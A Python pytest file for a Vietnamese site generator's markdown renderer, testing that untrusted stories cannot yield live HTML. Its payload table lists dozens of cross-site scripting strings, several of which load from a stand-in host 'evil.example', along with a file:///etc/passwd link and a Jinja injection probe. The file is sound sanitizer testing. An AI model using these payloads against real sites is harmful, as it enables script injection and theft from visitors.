"""Stories may come from anybody: whatever they hold, nothing in the page may act."""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from generator.render import markdown
from generator.render.markdown import ATTRIBUTES, TAGS, render

# Written for this project: one for each way that is known to bring something to life.
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "một <script src=//evil.example/x.js></script> hai",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed script": "<script>alert(1)",
    "upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "handler": '<p onclick="alert(1)">a</p>',
    "image": "<img src=x onerror=alert(1)>",
    "image without quotes and spaces": "<img/src=x/onerror=alert(1)//",
    "markdown image": '![a](x "b\\" onerror=alert(1) ")',
    "svg": "<svg onload=alert(1)></svg>",
    "svg animate": '<svg><animate attributeName="href" values="javascript:alert(1)"/><a id="a"/></svg>',
    "svg foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "math link": '<math href="javascript:alert(1)">a</math>',
    "iframe": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "form": '<form action="javascript:alert(1)"><input autofocus></form>',
    "button": '<button formaction="javascript:alert(2)">a</button>',
    "style": "<style>*{background:url(//evil.example)}</style>",
    "style attribute": '<p style="position:fixed;inset:0">a</p>',
    "base": '<base href="//evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link": '<link rel="stylesheet" href="//evil.example/a.css">',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "details": "<details open ontoggle=alert(1)>a</details>",
    "video": "<video onloadstart=alert(1)><source src=x onerror=alert(1)></video>",
    "javascript link": "[a](javascript:alert(1))",
    "javascript in capitals": "[a](JaVaScRiPt:alert(1))",
    "javascript with a tab": "[a](java\tscript:alert(1))",
    "javascript by entities": "[a](&#106;&#97;&#118;&#97;script:alert(1))",
    "javascript by named entities": "[a](javascript&colon;alert(1))",
    "javascript after a control": "[a](\x01javascript:alert(1))",
    "javascript in a reference": "[a]\n\n[a]: javascript:alert(1) 'b'",
    "javascript in angles": "<javascript:alert(1)>",
    "vbscript": "[a](vbscript:msgbox(1))",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file link": "[a](file:///etc/passwd)",
    "other host": "[a](//evil.example/x)",
    "other host by backslashes": "[a](\\\\evil.example/x) [b](/\\evil.example/x)",
    "other host in raw HTML": "<a href='/\\evil.example'>a</a> <a href='//evil.example'>b</a>",
    "other host behind what browsers drop": "<a href='/&#9;/evil.example'>a</a> <a href=' &#10;//evil'>b</a>",
    "title that breaks out": "[a](https://ocop.test 'x\" onmouseover=\"alert(1)')",
    "raw link": '<a href="javascript:alert(1)" onfocus=alert(1) autofocus>a</a>',
    "pinging link": '<a href="https://ocop.test" ping="//evil.example" target=_blank>a</a>',
    "heading attributes": "## Tên {: onclick=alert(1) style=color:red }",
    "inline attributes": "*a*{: onmouseover=alert(1) }",
    "attributes of a link": "[a](https://ocop.test){: href=javascript:alert(1) onclick=alert(1) }",
    "brackets in brackets": "[![a](javascript:alert(1))](javascript:alert(2))",
    "brackets without end": "[" * 60 + "a](javascript:alert(1))",
    "code": "`<script>alert(1)</script>`",
    "fenced code": "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "footnote": "a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [b](javascript:alert(1))",
    "abbreviation": '*[HTX]: "><script>alert(1)</script>\n\nHTX',
    "definition": "a\n: <script>alert(1)</script>",
    "markdown in raw": '<div markdown="1" onclick="alert(1)">\n[a](javascript:alert(1))\n</div>',
    "clobbered name": '<a id="cookie" name="body">a</a> <p id="content">b</p>',
    "zero byte": "<img src=x on\0error=alert(1)>",
    "half a tag": "<p title='<script>alert(1)</script>' <script>alert(2)</script>",
    "jinja": "{{ cycler.__init__.__globals__ }} {% include 'x' %}",
}

SAFE = {"http", "https", "mailto", "tel", ""}


def href(address: str) -> str:
    return "/sub" + address


def at_root(address: str) -> str:
    """A site without a sub-path: nothing stands before an address that a story gives."""
    return address


def alive(html: str) -> Iterator[str]:
    """Whatever in ``html`` could act, load or leave the page without being asked."""
    body = LexborHTMLParser(f"<!doctype html><html><body>{html}</body></html>").body
    assert body is not None
    for node in body.css("*"):
        if node.tag == "body":
            continue
        if node.tag not in TAGS:
            yield f"<{node.tag}>"
        for name, value in node.attributes.items():
            if name not in ATTRIBUTES.get(node.tag or "", set()) | ATTRIBUTES["*"]:
                yield f"<{node.tag} {name}>"
            if name == "href":
                # As browsers read an address: ends are trimmed, tabs and new lines do not count, \ is /.
                address = re.sub(r"[\t\n\r]|^[\0- ]+|[\0- ]+$", "", value or "").replace("\\", "/")
                parts = urlsplit(address)
                if parts.scheme.lower() not in SAFE or address.startswith("//"):
                    yield f"href {value}"


@pytest.mark.parametrize("name", PAYLOADS)
def test_nothing_in_a_story_acts(name: str) -> None:
    html = render(PAYLOADS[name], href)
    assert list(alive(html)) == []
    assert list(alive(render(f"Trước\n\n- {PAYLOADS[name]}\n\n> {PAYLOADS[name]}\n", href))) == []
    assert list(alive(render(PAYLOADS[name], at_root))) == []


@pytest.mark.parametrize(
    "html",
    ["<script></script>", '<a href="javascript:x">a</a>', '<a href="java&#9;script:x">', '<p onclick="x">',
     "<img>", '<a href="/\\evil">', '<a href="//evil">', '<h2 style="x">a</h2>', "<svg></svg>"],
)  # fmt: skip
def test_the_judge_sees_what_is_alive(html: str) -> None:
    assert list(alive(html))


@given(st.text(alphabet="<>[](){}:!\"'=/\\&;#*_`|-~^ \n\tabjsvcriptonlex", max_size=60))
def test_no_jumble_acts(text: str) -> None:
    assert list(alive(render(text, at_root))) == []


def test_words_survive() -> None:
    html = render("<b>Gạo</b> nếp & **cái** <script>xấu</script> 2 < 3", href)
    text = LexborHTMLParser(html).text()
    assert "Gạo nếp & cái" in text
    assert "2 < 3" in text
    assert "xấu" not in text


def test_what_stories_may_hold() -> None:
    story = """# Tên

Đoạn *một*, [trong trang](/san-pham/gao/), [ngoài](https://ocop.test/a?b=1&c=2), [gọi](tel:+84900000000).

## Đắk Lắk

1. một
2. hai

- ba

> lời nói

| a | b |
|---|---|
| 1 | 2 |

Chú thích[^1].

[^1]: Nguồn.
"""
    body = LexborHTMLParser(render(story, href)).body
    assert body is not None
    assert [node.text() for node in body.css("h2")] == ["Tên", "Đắk\N{NO-BREAK SPACE}Lắk"]
    assert [node.attributes.get("id") for node in body.css("h2")] == ["s-ten", "s-dak-lak"]
    assert body.css("h1") == []
    links = [node.attributes.get("href") for node in body.css("p > a")]
    assert links[:3] == ["/sub/san-pham/gao/", "https://ocop.test/a?b=1&c=2", "tel:+84900000000"]
    assert [len(body.css(tag)) for tag in ("ol", "ul", "blockquote", "table", "em")] == [2, 1, 1, 1, 1]
    target = body.css("sup a")[0].attributes["href"] or ""
    assert body.css(f'[id="{target[1:]}"]'), "the footnote is there"


def test_deep_headings_become_the_deepest_allowed() -> None:
    html = render("##### Năm\n\n###### Sáu", href)
    assert html.count("<h4") == 2


def test_raw_links_of_the_site_get_its_sub_path() -> None:
    assert 'href="/sub/san-pham/"' in render('<a href="/san-pham/">a</a>', href)


def test_ids_of_a_story_are_not_those_of_the_page() -> None:
    """The pages of holders and news have parts with the ids ``products``, ``news`` and ``story``."""
    html = render("## Products\n\n[xem](#products) [khác](#goi){: #goi }\n\n<a id='news'></a>", href)
    body = LexborHTMLParser(html).body
    assert body is not None
    assert [node.attributes["id"] for node in body.css("[id]")] == ["s-products", "s-goi", "s-news"]
    for link in body.css("a[href^='#']"):
        assert body.css(f'[id="{(link.attributes["href"] or "")[1:]}"]'), link.html


def test_columns_keep_their_alignment() -> None:
    html = render("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |", href)
    body = LexborHTMLParser(html).body
    assert body is not None
    classes = [node.attributes.get("class") for node in body.css("th, td")]
    assert classes == [None, "right", "center"] * 2


def test_footnotes_speak_the_language_of_the_page() -> None:
    text = "một[^1] hai[^1]\n\n[^1]: Nguồn."
    assert 'title="Trở lại bài viết"' in render(text, href, "Trở lại bài viết")
    assert "Jump" not in render(text, href)


PARAGRAPHS = (
    *("Chè hái tay, sao trong ngày (2 lần); 100 % búp: ngon…", "Words – and more — words.", "a..b", "a...b"),
    *(
        "a--b",
        "a-b",
        "a---b",
        "one\ntwo",
        "one  \ntwo",
        "snake_case_word",
        "_a_ b",
        "2 * 3 * 4",
        "**a**",
        "`a`",
    ),
    *("a\\*b", 'He said "yes".', "it's", "<b>a</b>", "a & b", "&copy;", "<https://ocop.test>", "a@b.test"),
    *("https://ocop.test/x", "[a](/b)", "[a][b]\n\n[b]: /c", "a[^1]\n\n[^1]: note", "# Đồi chè", "a {#b}"),
    *("* một\n* hai", "1. a\n\n    b\n2. c", "> a", "a\n: b", "| a | b |\n|---|--:|\n| 1 | 2 |", "Hà\u0309o"),
    *("HTML is it\n\n*[HTML]: Hypertext", "<div markdown=1>\na *b*\n</div>", "<<a>>", "a \x02b\x03"),
)


@pytest.mark.parametrize("text", PARAGRAPHS)
def test_plain_paragraphs_come_out_as_those_that_are_searched_for_marks(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"{text}\n\n{text}"
    ours = render(text, str)
    monkeypatch.setattr(markdown._PlainText, "run", lambda _self, _root: None)
    assert ours == render(text, str)
